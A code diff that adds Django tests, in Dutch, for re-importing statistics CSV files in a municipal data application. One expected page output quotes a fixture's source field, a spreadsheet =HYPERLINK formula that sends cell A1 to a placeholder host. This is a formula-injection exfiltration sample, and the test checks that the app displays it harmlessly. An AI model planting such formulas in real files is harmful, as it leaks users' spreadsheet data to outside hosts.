@@ -620,3 +620,44 @@ class AndereGemeenteTest(TestCase):
             self.client.get(import_.get_absolute_url()),
             "Dit bestand wijzigt 3 cijfers buiten jouw gemeenten: Bunschoten (1) en Eemnes (2).",
         )
+
+
+class AndereBronTest(TestCase):
+    """Proefgebruiker, punt 11 (laatste punt): hetzelfde cijfer opnieuw met alleen een andere
+    bron blijft ongewijzigd, en het voorbeeld zegt dat de oude bron blijft."""
+
+    @classmethod
+    def setUpTestData(cls):
+        cls.gebruikers, _ = brondata_en_adviseur()
+
+    def test_c03_dan_c11_zegt_dat_de_bron_blijft(self):
+        self.client.force_login(self.gebruikers["adviseur_soest"])
+        c03 = "c03_sjabloon_excel_lege_puntkommarijen.csv"
+        upload(self.client, (CASUSSEN / c03).read_bytes(), naam=c03)
+        eerste = Import.objects.latest("pk")
+        self.client.post(eerste.get_absolute_url())
+        c11 = "c11_sjabloon_bron_als_formule.csv"
+        upload(self.client, (CASUSSEN / c11).read_bytes(), naam=c11)
+        tweede = Import.objects.latest("pk")
+        self.assertEqual(tweede.tellingen()["ongewijzigd"], 1)
+        response = self.client.get(tweede.get_absolute_url())
+        self.assertContains(
+            response,
+            f"1 cijfer gelijk, bron blijft <q>Import {eerste.pk}: {c03}</q> (het bestand noemt "
+            "<q>=HYPERLINK(&quot;http://voorbeeld.invalid/?d=&quot;&amp;A1;&quot;bron&quot;)</q>).",
+        )
+        self.assertContains(response, "Er is niets te importeren")
+        soest = Cijfer.objects.select_related("bron").get(
+            gebied__slug="soest", categorie__slug="woninginbraken", jaar=2024
+        )
+        self.assertEqual((soest.waarde, soest.bron.titel), (52, f"Import {eerste.pk}: {c03}"))
+
+    def test_zonder_bron_in_het_bestand_niets_te_melden(self):
+        self.client.force_login(self.gebruikers["adviseur_soest"])
+        rij = ["Soest", "woninginbraken", 2024, 2024, 52, "", ""]
+        upload(self.client, ib.sjabloon_csv([rij]))
+        self.client.post(Import.objects.latest("pk").get_absolute_url())
+        upload(self.client, ib.sjabloon_csv([rij]))  # zelfde bestand, nieuwe importbron
+        opnieuw = Import.objects.latest("pk")
+        self.assertEqual(opnieuw.voorbeeld["bron_blijft"], [])
+        self.assertNotContains(self.client.get(opnieuw.get_absolute_url()), "bron blijft")
